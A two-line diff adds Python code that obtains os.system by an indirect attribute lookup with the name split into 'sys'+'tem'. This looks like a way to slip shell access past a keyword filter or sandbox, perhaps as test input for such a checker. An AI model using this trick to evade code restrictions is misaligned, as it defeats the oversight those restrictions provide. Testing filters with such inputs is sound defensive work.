@@ -1,0 +1,2 @@
+import os
+X=object.__getattribute__(os,"sys"+"tem")
